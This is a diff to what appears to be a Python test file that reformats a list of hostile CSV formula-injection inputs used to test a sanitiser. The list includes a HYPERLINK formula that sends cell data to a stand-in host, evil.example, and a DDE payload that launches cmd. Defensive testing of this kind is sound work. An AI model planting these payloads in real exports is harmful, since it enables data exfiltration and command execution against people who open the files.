@@ -14,8 +14,17 @@ from core.engine.csv_safe import formula_safe
 from core.store.feedback import feedback_columns, feedback_csv
 from tests.conftest import ROOT, encode
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "\t=1", " =1+1",
-           "\uff1dcmd|' /C calc'!A0", "line one\rline two", "a\r\nb"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    " =1+1",
+    "\uff1dcmd|' /C calc'!A0",
+    "line one\rline two",
+    "a\r\nb",
+]
 
 
 @pytest.mark.parametrize("text", HOSTILE)
